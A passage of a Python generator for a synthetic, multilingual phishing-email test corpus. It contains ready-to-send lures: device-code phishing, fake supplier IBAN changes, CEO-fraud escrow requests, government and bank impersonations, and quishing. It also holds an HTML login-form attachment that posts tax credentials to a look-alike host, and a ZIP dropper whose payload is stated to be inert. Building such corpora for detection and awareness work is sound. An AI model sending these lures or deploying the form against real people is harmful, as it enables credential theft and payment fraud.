  2. Enter the code  B7QXK4MZP
  3. Sign in with your usual Example Group work account and confirm.

The code is only valid for 15 minutes, so it's easiest to do it right before you join. After that the meeting will appear in your Teams calendar automatically.

Speak shortly,
Daniel

Daniel Ashworth MRICS
Director | Ashworth Cost Consulting Ltd
M +44 7700 900731
'''
M(dir='attack', file='16-en-device-code-phishing-teams-pretext', lang='en', charset='UTF-8 (QP), multipart/alternative',
  desc='OAuth device-code phishing: a cost consultant\'s (compromised) mailbox asks the CFO to "authorise" a Teams session by entering a code at the genuine microsoft.com/devicelogin.',
  why='The only link is a genuine Microsoft URL, so reputation checks pass; entering the attacker-generated code grants the attacker tokens for the victim\'s account (Storm-2372-style technique); unusual request, 15-minute urgency, external sender.',
  infra=m365_infra(_s, _d, 'katrin.vogel@example.com', 'LO4P265MB6112'),
  mailfrom='d.ashworth@ashworth-cost-consulting.co.uk', rcpt='katrin.vogel@example.com', date=_d,
  frm=('Daniel Ashworth', 'd.ashworth@ashworth-cost-consulting.co.uk'), to=ST('vogel'),
  subject='Teams session 10:00 CET - Q4 cost report Castlefield (secure)',
  extra=[('Thread-Topic', 'Teams session 10:00 CET - Q4 cost report Castlefield (secure)'), ('Thread-Index', thread_index(_s)),
         ('Content-Language', 'en-GB')],
  body=MP('alternative', [T(_txt, cs='utf-8'), T(outlook_html(_txt, 'utf-8', 'EN-GB'), 'html', cs='utf-8')], _s, 'outlook'))

def b64u(s):
    return base64.urlsafe_b64encode(s.encode()).decode().rstrip('=')


# ===========================================================================
# Italian attacks
# ===========================================================================

# --- 17 it: Ferretti Trasporti bank change from look-alike (Zoho) ------------
_s = 'attack/17'
_d = D('11-16 11:02:37')
M(dir='attack', file='17-it-ferretti-variazione-iban-lookalike', lang='it', charset='ISO-8859-1 (QP) + PDF',
  desc='Supplier bank-detail change: "Chiara Colombo, Ferretti Trasporti" announces a new Banco BPM IBAN and asks to pay invoices 1142/2026 and 1163/2026 (EUR 23.684,50) there.',
  why='Look-alike domain ferrettitrasporti.it (genuine: ferretti-trasporti.it, hyphen missing) on Zoho Mail; Cc to a fake "amministrazione" on the same look-alike; new IBAN %s (valid CIN and mod-97) replaces the known Intesa account; confirmation by reply only.' % iban_fmt(ATK_FERR_IBAN),
  mailfrom='c.colombo@ferrettitrasporti.it', rcpt='marco.bianchi@example.com', date=_d,
  helo='sender4-op-o12.zoho.eu', rdns='sender4-op-o12.zoho.eu', ip='185.20.209.12', tls='TLSv1.3',
  received=['by mx.zoho.eu with SMTPS id 1763287357118%d.%d; %s' % (HN(_s, 100, 999), HN(_s + 'b', 10 ** 8, 10 ** 9), fmt(plus(_d, -1, TZ(1))).replace('+0100', '+0100 (CET)'))],
  frm=('Chiara Colombo', 'c.colombo@ferrettitrasporti.it'), to=ST('bianchi'),
  cc=[('Ferretti Trasporti - Amministrazione', 'amministrazione@ferrettitrasporti.it')],
  subject='Comunicazione variazione coordinate bancarie - Ferretti Trasporti S.p.A.',
  msgid='%s.%s@ferrettitrasporti.it' % (H(_s, 13, HEX), HN(_s, 10 ** 12, 10 ** 13)), hcs='ISO-8859-1',
  extra=[('Importance', 'Medium'), ('User-Agent', 'Zoho Mail'), ('X-Mailer', 'Zoho Mail')],
  body=MP('mixed', [
      T('''Gentile Dott. Bianchi,

con la presente Vi comunichiamo che, a seguito della riorganizzazione dei nostri rapporti bancari, a partire dal 16/11/2026 le coordinate per i pagamenti a favore di Ferretti Trasporti S.p.A. sono variate come segue:

Banca: Banco BPM S.p.A. - Filiale di Bergamo Centro
Intestatario: Ferretti Trasporti S.p.A.
IBAN: %s
BIC/SWIFT: BAPPIT21XXX

Vi preghiamo di aggiornare la Vostra anagrafica fornitori e di utilizzare le nuove coordinate già per il pagamento delle fatture n. 1142/2026 e n. 1163/2026 in scadenza al 30/11/2026, per un totale di EUR 23.684,50. Le coordinate presso Intesa Sanpaolo non saranno più operative dalla stessa data.

In allegato trovate la comunicazione ufficiale firmata dal nostro legale rappresentante. Vi saremmo grati se poteste confermarci l'avvenuto aggiornamento rispondendo a questa e-mail.

Restando a disposizione per ogni chiarimento, porgiamo cordiali saluti.

Chiara Colombo
Ufficio Commerciale
Ferretti Trasporti S.p.A.
Via dell'Industria 27 - 24040 Stezzano (BG)
Tel. +39 035 419 2270
''' % iban_fmt(ATK_FERR_IBAN), cs='ISO-8859-1', quote_cs=False),
      ATT(pdf_doc(['#FERRETTI TRASPORTI S.p.A.', "Via dell'Industria 27 - 24040 Stezzano (BG)", '',
                   'Spett.le Example Group', '', 'Oggetto: variazione coordinate bancarie', '',
                   'Con decorrenza 16/11/2026 i pagamenti dovranno essere effettuati su:',
                   'Banco BPM S.p.A. - IBAN ' + iban_fmt(ATK_FERR_IBAN), '', 'Il legale rappresentante'], 'Variazione IBAN'),
          'application/pdf', 'Comunicazione_variazione_IBAN_Ferretti.pdf'),
  ], _s, 'bulk'))

# --- 18 it: fake SdI rejection notice with HTML login attachment ------------
_s = 'attack/18'
_d = D('11-18 17:06:12')
_att = '''<!DOCTYPE html><html lang="it"><head><meta charset="utf-8"><title>Agenzia delle Entrate - Area riservata</title>
<style>body{font-family:"Titillium Web",Arial,sans-serif;background:#f5f5f5;margin:0}
.h{background:#0066cc;color:#fff;padding:18px 30px;font-size:20px}
.c{max-width:460px;margin:40px auto;background:#fff;padding:26px 30px;border-top:4px solid #0066cc}
input{width:100%;padding:10px;margin:6px 0 14px;border:1px solid #5c6f82;box-sizing:border-box}
button{background:#0066cc;color:#fff;border:0;padding:11px 20px;width:100%;font-size:15px}
.n{font-size:12px;color:#5c6f82}</style></head><body>
<div class="h">Agenzia delle Entrate &mdash; Fatture e Corrispettivi</div>
<div class="c"><h3>Ricevuta di scarto n. 12873490519</h3>
<p class="n">Per visualizzare la ricevuta e ritrasmettere il file accedi con le credenziali Fisconline/Entratel.</p>
<form action="https://fatturapa-ricevute.com/ae/login.php" method="post">
<label>Codice fiscale</label><input name="cf" autocomplete="off">
<label>Password</label><input name="pw" type="password">
<label>PIN</label><input name="pin" type="password">
<button type="submit">Accedi</button></form>
<p class="n">Oppure entra con SPID o CIE dalla pagina principale.</p></div></body></html>
'''
M(dir='attack', file='18-it-sdi-ricevuta-scarto-html-anhang', lang='it', charset='ISO-8859-15 (QP) + HTML attachment',
  desc='Fake Sistema di Interscambio (e-invoicing hub) rejection notice for an invoice file of the Italian entity; HTML attachment with Fisconline/Entratel login form.',
  why='Impersonates SdI, which really notifies via PEC from pec.fatturapa.it; here an ordinary SMTP mail from the look-alike pec-fatturapa.it on a VPS; local HTML credential form (codice fiscale + password + PIN) posting to fatturapa-ricevute.com; "5-day" resend pressure.',
  mailfrom='sdi08@pec-fatturapa.it', rcpt='marco.bianchi@example.com', date=_d,
  helo='pec-fatturapa.it', rdns='ip-141-94-221-37.eu', ip='141.94.221.37', tls='TLSv1.2',
  cipher='ECDHE-RSA-AES256-GCM-SHA384 (256/256 bits)',
  frm=('Sistema di Interscambio', 'sdi08@pec-fatturapa.it'), to=ST('bianchi'),
  subject='Notifica di scarto - file IT%s_4kX2p.xml.p7m (Identificativo SdI 12873490519)' % EG_PIVA,
  msgid='opec21014.20261118170612.%d.%d.1.53@pec-fatturapa.it' % (HN(_s, 100000, 999999), HN(_s + 'x', 10, 99)),
  hcs='ISO-8859-15',
  body=MP('mixed', [
      T('''Gentile utente,

il Sistema di Interscambio ha elaborato il file fattura in oggetto e ha rilevato le seguenti anomalie che ne hanno impedito l'inoltro al destinatario:

  Codice errore 00404 - Fattura duplicata
  Codice errore 00305 - IdFiscaleIVA del cessionario/committente non valido

Identificativo SdI:  12873490519
Data ricezione:      18/11/2026 16:42
Nome file:           IT%s_4kX2p.xml.p7m

La fattura si considera non emessa. Per consultare la ricevuta di scarto completa e ritrasmettere il file corretto entro 5 giorni, aprire il documento allegato ed effettuare l'accesso con le credenziali Fisconline/Entratel, SPID o CIE.

Cordiali saluti
Agenzia delle Entrate - Sistema di Interscambio

Messaggio generato automaticamente, si prega di non rispondere.
''' % EG_PIVA, cs='ISO-8859-15'),
      ATT(_att.encode('utf-8'), 'text/html', 'RicevutaScarto_12873490519.html'),
  ], _s, 'std'))

# --- 19 it: fake Aruba PEC renewal (Mailgun) --------------------------------
_s = 'attack/19'
_d = D('11-20 09:15:00')
_url = 'https://rinnovo.arubapec-servizi.com/pec/rinnovo?c=examplegroupitalia%40pec.it&t=' + H(_s + 't', 24, B62)
_html = '''<!DOCTYPE html><html lang="it"><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head>
<body style="margin:0;background:#f0f0f0;font-family:Arial,Helvetica,sans-serif">
<table width="100%%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:20px 0">
<table width="600" cellpadding="0" cellspacing="0" style="background:#ffffff">
<tr><td style="padding:18px 30px;border-bottom:3px solid #ff6a13"><span style="font-size:26px;font-weight:bold;color:#ff6a13">aruba</span><span style="font-size:26px;color:#4d4d4d">.it</span></td></tr>
<tr><td style="padding:30px;font-size:14px;color:#333333;line-height:21px">
<p>Gentile Cliente,</p>
<p>il servizio di Posta Elettronica Certificata associato alla casella <b>examplegroupitalia@pec.it</b> è in scadenza il <b>24/11/2026</b>.</p>
<p>Per evitare la sospensione del servizio e l'impossibilità di ricevere comunicazioni con valore legale (notifiche, fatture elettroniche, comunicazioni della Pubblica Amministrazione), è necessario confermare il rinnovo entro la data indicata.</p>
<p style="text-align:center;padding:10px 0"><a href="%s" style="background:#ff6a13;color:#ffffff;text-decoration:none;padding:12px 34px;font-weight:bold;border-radius:3px">RINNOVA ORA</a></p>
<p>Il rinnovo annuale ha un costo di 5,00 &euro; + IVA. Dopo la scadenza la casella resterà in sola lettura per 30 giorni, trascorsi i quali i messaggi archiviati verranno eliminati.</p>
<p>Cordiali saluti,<br>Aruba PEC S.p.A.</p></td></tr>
<tr><td style="padding:16px 30px;background:#4d4d4d;color:#cccccc;font-size:11px">Aruba PEC S.p.A. &middot; Via San Clemente, 53 &middot; 24036 Ponte San Pietro (BG) &middot; P.IVA 01879020517<br>Questa è una comunicazione di servizio, non rispondere a questa e-mail.</td></tr>
</table></td></tr></table>
<img src="https://email.arubapec-servizi.com/o/%s" width="1" height="1" alt=""></body></html>
''' % (_url, H(_s + 'px', 40, B62))
M(dir='attack', file='19-it-aruba-pec-rinnovo-falso', lang='it', charset='UTF-8 (QP), HTML-only',
  desc='Fake Aruba PEC renewal notice for the company certified-mail box; "RINNOVA ORA" leads to a card/credential page on arubapec-servizi.com.',
  why='Brand impersonation of the most common Italian PEC provider via Mailgun from an unrelated domain; deadline + loss-of-legal-mail threat; tracking pixel; compare the genuine Aruba notice in business/20 (staff.aruba.it, no payment link pressure).',
  mailfrom='bounce+8f1d2c.4417-giulia.romano=example.com@mg.arubapec-servizi.com', rcpt='giulia.romano@example.com', date=_d,
  helo='m228-17.mailgun.net', rdns='m228-17.mailgun.net', ip='159.135.228.17', tls='TLSv1.3',
  frm=('Aruba.it', 'noreply@arubapec-servizi.com'), to=ST('romano'),
  subject='Avviso: la casella PEC examplegroupitalia@pec.it scade il 24/11/2026',
  msgid='20261120081500.%s@mg.arubapec-servizi.com' % H(_s, 16),
  extra=[('X-Mailgun-Sid', H(_s + 'sid', 40, B62)), ('X-Mailgun-Tag', 'rinnovo-pec')],
  body=T(_html, 'html', cs='UTF-8'))

# --- 20 it: CEO fraud second stage - fake lawyer with escrow IBAN ----------
_s = 'attack/20'
_d = D('11-25 10:41:09')
M(dir='attack', file='20-it-ceo-fraud-avvocato-escrow', lang='it', charset='ISO-8859-15 (base64)',
  desc='CEO fraud (lawyer stage): "Avv. Federico Marchetti" writes on behalf of CEO Markus Brenner and asks the Italian accountant to wire EUR 186.500,00 to an escrow account for a confidential acquisition ("Progetto Aquila").',
  why='Classic two-step BEC: invented law firm on a newly registered .eu domain, confidentiality pretext (market-abuse rules), CEO "in meetings all day", instruction to bypass colleagues and HQ, IBAN %s.' % iban_fmt(ATK_ESCROW_IBAN),
  mailfrom='f.marchetti@studiolegale-marchetti.eu', rcpt='marco.bianchi@example.com', date=_d,
  helo='mail.studiolegale-marchetti.eu', rdns='static.94.66.108.65.clients.your-server.de', ip='65.108.66.94',
  received=['from [192.168.0.104] (unknown [37.120.247.18])\n\t(Authenticated sender: f.marchetti@studiolegale-marchetti.eu)\n\tby mail.studiolegale-marchetti.eu (Postfix) with ESMTPSA id 4B7C2E0D91\n\tfor <marco.bianchi@example.com>; %s' % fmt(plus(_d, 1))],
  frm=('Avv. Federico Marchetti', 'f.marchetti@studiolegale-marchetti.eu'), to=ST('bianchi'),
  subject='Riservato - incarico del Dott. Brenner / Progetto Aquila',
  msgid='%s-%s-%s@studiolegale-marchetti.eu' % (H(_s, 8), H(_s + '1', 4), H(_s + '2', 12)), hcs='ISO-8859-15', henc='B',
  extra=[('User-Agent', 'Mozilla Thunderbird'), ('Content-Language', 'it-IT')],
  body=T('''Egregio Dott. Bianchi,

mi presento: sono l'Avv. Federico Marchetti dello Studio Legale Marchetti & Associati di Milano. Le scrivo su incarico del Dott. Markus Brenner, Amministratore Delegato del Gruppo, che La avrà già informata o La informerà a breve per e-mail.

Il nostro Studio assiste Example Group in un'operazione di acquisizione che, fino all'annuncio ufficiale previsto per il 4 dicembre, è soggetta a stretto obbligo di riservatezza ai sensi della normativa sugli abusi di mercato. Per questo motivo La prego di non parlarne con i colleghi né con la sede di Francoforte, ad eccezione del Dott. Brenner stesso.

Per il perfezionamento dell'accordo di esclusiva è necessario eseguire oggi un bonifico a titolo di deposito cauzionale sul conto vincolato (escrow) dello Studio:

Beneficiario: Studio Legale Marchetti & Associati - conto deposito clienti
Banca: Banca Sella S.p.A.
IBAN: %s
Importo: EUR 186.500,00
Causale: Deposito cauzionale Progetto Aquila - rif. FM/2611

Le chiedo cortesemente di confermarmi l'esecuzione del bonifico inviandomi la contabile via e-mail. Il Dott. Brenner è in riunione per tutta la giornata e mi ha pregato di gestire direttamente con Lei i dettagli operativi.

Resto a Sua disposizione per qualsiasi chiarimento.

Distinti saluti

Avv. Federico Marchetti
Studio Legale Marchetti & Associati
Corso di Porta Nuova 18 - 20121 Milano
''' % iban_fmt(ATK_ESCROW_IBAN), cs='ISO-8859-15', cte='base64', ctparams='; format=flowed', quote_cs=False))

# --- 21 it: quishing inside a PDF attachment ------------------------------
_s = 'attack/21'
_d = D('11-23 08:05:44')
_qr21 = 'https://examplegroup-it.com/mfa/enroll?u=%s&l=it' % b64u('alessandro.ricci@examplegroup.eu')
QR_PAYLOADS['21-it-qr-nel-pdf-mfa'] = _qr21
M(dir='attack', file='21-it-qr-nel-pdf-mfa', lang='it', charset='UTF-8 (QP) + PDF with QR',
  desc='Quishing inside a PDF: "Service Desk IT" sends personal MFA/passkey enrolment instructions as a PDF whose QR code points to %s.' % _qr21,
  why='Payload URL only inside an image inside a PDF (evades URL rewriting and most scanners); look-alike domain examplegroup-it.com; lockout threat; sent via Mailgun.',
  mailfrom='bounce+3c91aa.55e1-alessandro.ricci=examplegroup.eu@mg.examplegroup-it.com', rcpt='alessandro.ricci@examplegroup.eu', date=_d,
  helo='m159-148.mailgun.net', rdns='m159-148.mailgun.net', ip='161.38.204.148', tls='TLSv1.3',
  frm=('Service Desk IT - Example Group', 'servicedesk@examplegroup-it.com'), to=ST('ricci'),
  subject='Azione richiesta: attivazione nuova autenticazione a due fattori entro il 27/11',
  msgid='20261123070544.%s@mg.examplegroup-it.com' % H(_s, 16),
  body=MP('mixed', [
      T('''Ciao Alessandro,

come anticipato nella comunicazione interna di ottobre, entro il 27 novembre tutti gli account del Gruppo devono passare al nuovo metodo di autenticazione a due fattori (passkey con Microsoft Authenticator).

In allegato trovi il documento con le istruzioni e il tuo codice QR personale: scansionalo con lo smartphone e segui i passaggi indicati, ci vogliono circa due minuti. Il codice è personale, ti chiediamo di non inoltrare questa e-mail.

Gli account non aggiornati verranno bloccati dal 28/11 fino all'attivazione tramite Service Desk.

Grazie per la collaborazione,
Service Desk IT - Example Group
''', cs='UTF-8', quote_cs=False),
      ATT(pdf_doc(['#Example Group - Service Desk IT', '', 'Attivazione autenticazione a due fattori (passkey)', '',
                   'Utente: alessandro.ricci@examplegroup.eu', 'Scadenza: 27/11/2026', '',
                   '1. Apri la fotocamera dello smartphone', '2. Inquadra il codice QR a destra',
                   '3. Accedi con le credenziali aziendali e conferma la richiesta', '',
                   'Il codice e personale e scade dopo l\'utilizzo.'], 'Istruzioni MFA', qr=_qr21, qr_pos=(370, 600, 170)),
          'application/pdf', 'Istruzioni_MFA_alessandro.ricci.pdf'),
  ], _s, 'bulk'))

# ===========================================================================
# Polish attacks
# ===========================================================================

# --- 22 pl: Partner Logistik bank change from look-alike ---------------------
_s = 'attack/22'
_d = D('11-17 12:44:03')
M(dir='attack', file='22-pl-partner-logistik-zmiana-rachunku-lookalike', lang='pl', charset='windows-1250 (QP) + PDF',
  desc='Supplier bank-detail change: "Tadeusz Zieliński, Partner Logistik" announces a new mBank account, claims it is on the VAT white list, asks to pay FV/2026/11/0457 and 0481 (84 317,40 zł).',
  why='Look-alike domain partner-logistlk.pl ("l" instead of "i") on an OVH VPS; pre-empts the Polish white-list check; payment of invoices already due to %s; confirmation by e-mail only.' % iban_fmt(ATK_PL_IBAN),
  mailfrom='t.zielinski@partner-logistlk.pl', rcpt='piotr.nowak@example.com', date=_d,
  helo='mail.partner-logistlk.pl', rdns='vps-7a41c2d3.vps.ovh.net', ip='57.128.170.44', tls='TLSv1.3',
  received=['from [10.8.0.6] (unknown [185.248.21.73])\n\tby mail.partner-logistlk.pl (Postfix) with ESMTPSA id 2D1E8C0517\n\tfor <piotr.nowak@example.com>; %s' % fmt(plus(_d, 1))],
  frm=('Tadeusz Zieliński', 't.zielinski@partner-logistlk.pl'), to=ST('nowak'),
  subject='Zmiana numeru rachunku bankowego – Partner Logistik sp. z o.o.',
  msgid='000a01dc5670$%s$%s@partner-logistlk.pl' % (H(_s, 8), H(_s + 'b', 8)), hcs='windows-1250',
  extra=[('X-Mailer', 'Microsoft Outlook 16.0'), ('Thread-Index', 'AdxWcLx2n0bB8k9xQk+Yz3kqv0Pf3A=='), ('Content-Language', 'pl')],
  body=MP('mixed', [
      T('''Szanowny Panie Piotrze,

uprzejmie informujemy, że w związku ze zmianą banku obsługującego naszą spółkę od dnia 23.11.2026 r. wszelkie płatności na rzecz Partner Logistik sp. z o.o. prosimy kierować wyłącznie na nowy rachunek bankowy:

mBank S.A.
%s
(IBAN: %s, BIC: BREXPLPWMBK)

Nowy rachunek został zgłoszony do urzędu skarbowego i widnieje na „białej liście” podatników VAT, więc płatności w mechanizmie podzielonej płatności mogą być realizowane bez przeszkód.

Prosimy o uregulowanie na powyższy rachunek faktur FV/2026/11/0457 oraz FV/2026/11/0481 (łącznie 84 317,40 zł brutto), których termin płatności upływa 25.11.2026 r. Dotychczasowy rachunek w PKO BP zostanie zamknięty.

W załączeniu przesyłam oficjalne pismo podpisane przez Zarząd. Będę wdzięczny za krótkie potwierdzenie aktualizacji danych w Państwa systemie.

Z poważaniem
Tadeusz Zieliński
Kierownik ds. Kluczowych Klientów
Partner Logistik sp. z o.o.
ul. Gdyńska 31, 61-016 Poznań
tel. +48 61 852 40 17
''' % (nrb(ATK_PL_IBAN), iban_fmt(ATK_PL_IBAN)), cs='windows-1250'),
      ATT(pdf_doc(['#Partner Logistik sp. z o.o.', 'ul. Gdynska 31, 61-016 Poznan', '', 'Zawiadomienie o zmianie rachunku bankowego', '',
                   'Od dnia 23.11.2026 r. prosimy o wplaty na rachunek:', 'mBank S.A. ' + nrb(ATK_PL_IBAN), '', 'Zarzad'], 'Zmiana rachunku'),
          'application/pdf', 'Zmiana_rachunku_Partner_Logistik.pdf'),
  ], _s, 'outlook'))

# --- 23 pl: KSeF token / certificate phishing ------------------------------
_s = 'attack/23'
_d = D('11-24 07:30:11')
_url = 'https://ksef-podatki.com.pl/uprawnienia/potwierdz?nip=%s&s=%s' % (EG_NIP, H(_s, 12, B62))
_html = '''<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-2"></head>
<body style="font-family:Arial,sans-serif;font-size:14px;color:#1b1b1b;background:#ffffff">
<div style="max-width:620px;margin:0 auto;border:1px solid #d9d9d9">
<div style="background:#dc0a1e;height:6px"></div>
<div style="padding:18px 26px;font-size:18px;font-weight:bold">Krajowy System e-Faktur</div>
<div style="padding:0 26px 24px 26px;line-height:21px">
<p>Szanowni Państwo,</p>
<p>informujemy, że w związku z wycofaniem tokenów uwierzytelniających w Krajowym Systemie e-Faktur uprawnienia do wystawiania i odbierania faktur ustrukturyzowanych przypisane do podmiotu:</p>
<p style="background:#f4f4f4;padding:10px 14px">NIP: <b>%s</b><br>Nazwa: <b>EXAMPLE GROUP POLSKA SP. Z O.O.</b></p>
<p>wygasną z dniem <b>30.11.2026 r.</b> Aby zachować ciągłość fakturowania i uniknąć sankcji przewidzianych w ustawie o VAT, należy potwierdzić uprawnienia osoby reprezentującej podmiot i wygenerować certyfikat KSeF.</p>
<p style="text-align:center"><a href="%s" style="background:#0052a5;color:#ffffff;padding:11px 26px;text-decoration:none;font-weight:bold">Potwierdź uprawnienia</a></p>
<p>Potwierdzenie wymaga zalogowania się profilem zaufanym, e-dowodem lub za pośrednictwem bankowości elektronicznej.</p>
<p>Ministerstwo Finansów<br>Krajowa Administracja Skarbowa</p>
<p style="font-size:11px;color:#777777">Wiadomość została wygenerowana automatycznie. Prosimy na nią nie odpowiadać.</p>
</div></div></body></html>
''' % (nip_fmt(EG_NIP), _url)
M(dir='attack', file='23-pl-ksef-wygasniecie-uprawnien', lang='pl', charset='ISO-8859-2 (base64), HTML-only',
  desc='Fake Ministry of Finance KSeF (national e-invoicing) notice: token-based permissions "expire" on 30.11.2026, link to confirm permissions via Profil Zaufany / online banking.',
  why='Topical 2026 lure (KSeF mandatory since Feb/Apr 2026, tokens being replaced by certificates); sender and link on ksef-podatki.com.pl, not gov.pl/podatki.gov.pl; compromised shared-hosting server; credential/bank-login harvesting.',
  mailfrom='www-data@serwer2419331.home.pl', rcpt='krzysztof.lewandowski@example.com', date=_d,
  helo='serwer2419331.home.pl', rdns='serwer2419331.home.pl', ip='46.242.244.171', tls='TLSv1.2',
  cipher='ECDHE-RSA-AES256-GCM-SHA384 (256/256 bits)',
  frm=('Ministerstwo Finansów - KSeF', 'powiadomienia@ksef-podatki.com.pl'), to=ST('lewandowski'),
  subject='KSeF: wygaśnięcie uprawnień do wystawiania faktur - wymagane potwierdzenie do 30.11.2026',
  msgid='%s@ksef-podatki.com.pl' % H(_s, 32), hcs='ISO-8859-2', henc='B', order=['To', 'Subject', 'From', 'Date', 'Message-ID'],
  extra=[('X-Mailer', 'PHPMailer 6.9.3 (https://github.com/PHPMailer/PHPMailer)')],
  body=T(_html, 'html', cs='ISO-8859-2', cte='base64'))

# --- 24 pl: bank (iPKO biznes) KYC/AML update lure ---------------------------
_s = 'attack/24'
_d = D('11-26 14:17:50')
_url = 'https://ipkobiznes-weryfikacja.pl/logowanie?k=' + H(_s, 20, B62)
_txt = '''Szanowna Pani,

zgodnie z ustawą o przeciwdziałaniu praniu pieniędzy oraz finansowaniu terroryzmu bank ma obowiązek okresowej aktualizacji danych klientów. Prosimy o weryfikację danych firmy oraz osób uprawnionych do reprezentacji w serwisie iPKO biznes do dnia 27.11.2026 r.

W przypadku braku aktualizacji bank będzie zobowiązany czasowo ograniczyć realizację przelewów wychodzących z rachunków firmowych.

Zaloguj się do iPKO biznes i zaktualizuj dane:
%s

Aktualizacja zajmuje około 3 minut. Przygotuj token lub aplikację mobilną do autoryzacji.

Z poważaniem
Zespół Obsługi Klienta Korporacyjnego
PKO Bank Polski S.A.
''' % _url
M(dir='attack', file='24-pl-ipko-biznes-aktualizacja-aml', lang='pl', charset='ISO-8859-2 (QP), multipart/alternative',
  desc='Bank phishing: "PKO Bank Polski" demands an AML/KYC data update in iPKO biznes by 27.11 or outgoing transfers will be restricted.',
  why='Bank brand impersonation from ipkobiznes-info.pl (not pkobp.pl), link to a look-alike login portal, asks to prepare the token for "authorisation" (real-time OTP phishing), one-day deadline, sent from an OVH dedicated server.',
  mailfrom='powiadomienia@ipkobiznes-info.pl', rcpt='anna.kowalska@example.com', date=_d,
  helo='ns3187244.ip-51-68-11.eu', rdns='ns3187244.ip-51-68-11.eu', ip='51.68.11.74', tls='TLSv1.2',
  cipher='ECDHE-RSA-AES256-GCM-SHA384 (256/256 bits)',
  frm=('PKO Bank Polski', 'powiadomienia@ipkobiznes-info.pl'), to=ST('kowalska'),
  subject='iPKO biznes - aktualizacja danych klienta (obowiązek AML) - termin 27.11.2026',
  msgid='%s.%s@ipkobiznes-info.pl' % (HN(_s, 10 ** 9, 10 ** 10), H(_s, 10)), hcs='ISO-8859-2',
  body=MP('alternative', [T(_txt, cs='ISO-8859-2'),
                          T(plain_html(_txt, cs='ISO-8859-2').replace(_html_esc(_url), '<a href="%s">%s</a>' % (_url, _html_esc(_url))), 'html', cs='ISO-8859-2')],
          _s, 'std'))

# --- 25 pl: ZIP dropper "payment confirmation" from compromised sub ----------
_s = 'attack/25'
_d = D('11-27 10:52:29')
M(dir='attack', file='25-pl-potwierdzenie-przelewu-zip', lang='pl', charset='ISO-8859-2 (QP) + ZIP',
  desc='"Potwierdzenie przelewu" from a plumbing subcontractor (compromised mailbox) about a paid re-invoice for site utilities; ZIP contains Potwierdzenie_przelewu_27112026.pdf.js (inert placeholder for a JS loader).',
  why='Genuine-looking small-company domain abused after account compromise (Roundcube webmail on shared hosting, attacker IP in lower hop); archive with script disguised as PDF; unsolicited "check our payment" lure.',
  mailfrom='biuro@instalbud-kowalczyk.pl', rcpt='piotr.nowak@example.com', date=_d,
  helo='s46.cyber-folks.pl', rdns='s46.cyber-folks.pl', ip='195.78.66.46', tls='TLSv1.3',
  received=['from [45.141.215.90] (helo=webmail.instalbud-kowalczyk.pl)\n\tby s46.cyber-folks.pl with esmtpsa (TLS1.3) tls TLS_AES_256_GCM_SHA384\n\t(Exim 4.98)\n\t(envelope-from <biuro@instalbud-kowalczyk.pl>)\n\tid 1vNm3K-00000005kQp-2sFt\n\tfor piotr.nowak@example.com; %s' % fmt(plus(_d, 1))],
  frm=('Instal-Bud Kowalczyk - Biuro', 'biuro@instalbud-kowalczyk.pl'), to=ST('nowak'),
  subject='Potwierdzenie przelewu - refaktura mediów FV/RM/118/2026',
  msgid='%s@instalbud-kowalczyk.pl' % H(_s, 32), hcs='ISO-8859-2',
  extra=[('User-Agent', 'Roundcube Webmail/1.6.9')],
  body=MP('mixed', [
      T('''Dzień dobry,

w załączeniu przesyłam potwierdzenie przelewu za refakturę mediów na budowie Wola Park II (FV/RM/118/2026, energia elektryczna i woda za październik).

Kwota została przelana w całości. Proszę o sprawdzenie i potwierdzenie zaksięgowania wpłaty, żebyśmy mogli zamknąć rozliczenie za październik.

Pozdrawiam
Agnieszka Wójcik
Biuro / księgowość
Instal-Bud Kowalczyk sp.j.
tel. 22 721 18 40
''', cs='ISO-8859-2', quote_cs=False, ctparams='; format=flowed'),
      ATT(zip_bytes([('Potwierdzenie_przelewu_27112026.pdf.js', INERT)], (2026, 11, 27, 10, 40, 0)),
          'application/zip', 'Potwierdzenie_przelewu_27112026.zip'),
  ], _s, 'php'))

# --- 26 pl: fake e-Doręczenia notification --------------------------------
_s = 'attack/26'
_d = D('11-27 10:21:36')
_url = 'https://e-doreczenia-gov.pl/skrzynka/przesylka?id=' + H(_s, 24, B62)
_txt = '''Dzień dobry,

do Państwa adresu do doręczeń elektronicznych AE:PL-48213-77104-FHJKT-21 wpłynęła nowa przesyłka.

Nadawca: Zakład Ubezpieczeń Społecznych, I Oddział w Warszawie
Tytuł: Zawiadomienie o zamiarze wszczęcia kontroli płatnika składek
Data nadania: 27.11.2026, 10:14

Przesyłkę należy odebrać w terminie 14 dni. Po upływie tego terminu przesyłka zostanie uznana za doręczoną.

Odbierz przesyłkę: %s

Wiadomość wygenerowana automatycznie, prosimy na nią nie odpowiadać.
e-Doręczenia | Ministerstwo Cyfryzacji
''' % _url
_html = '''<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="font-family:Arial,sans-serif;font-size:15px;color:#1b1b1b;background:#f2f2f2;margin:0;padding:20px">
<div style="max-width:600px;margin:0 auto;background:#ffffff;padding:26px 30px">
<p style="font-size:20px;font-weight:bold;color:#0052a5;margin-top:0">e-Doręczenia</p>
<p>Dzień dobry,</p>
<p>do Państwa adresu do doręczeń elektronicznych <b>AE:PL-48213-77104-FHJKT-21</b> wpłynęła nowa przesyłka.</p>
<table style="font-size:14px;margin:12px 0" cellpadding="4"><tr><td style="color:#666">Nadawca:</td><td>Zakład Ubezpieczeń Społecznych, I&nbsp;Oddział w&nbsp;Warszawie</td></tr>
<tr><td style="color:#666">Tytuł:</td><td>Zawiadomienie o zamiarze wszczęcia kontroli płatnika składek</td></tr>
<tr><td style="color:#666">Data nadania:</td><td>27.11.2026, 10:14</td></tr></table>
<p>Przesyłkę należy odebrać w terminie 14 dni. Po upływie tego terminu przesyłka zostanie uznana za doręczoną.</p>
<p><a href="%s" style="background:#0052a5;color:#ffffff;padding:10px 22px;text-decoration:none;display:inline-block">Odbierz przesyłkę</a></p>
<p style="font-size:12px;color:#666">Wiadomość wygenerowana automatycznie, prosimy na nią nie odpowiadać.<br>e-Doręczenia | Ministerstwo Cyfryzacji</p>
</div></body></html>
''' % _url
M(dir='attack', file='26-pl-e-doreczenia-falszywe-powiadomienie', lang='pl', charset='UTF-8 (QP), multipart/alternative',
  desc='Fake e-Doręczenia (state e-delivery) notice of a ZUS letter about an inspection, with "Odbierz przesyłkę" link to e-doreczenia-gov.pl.',
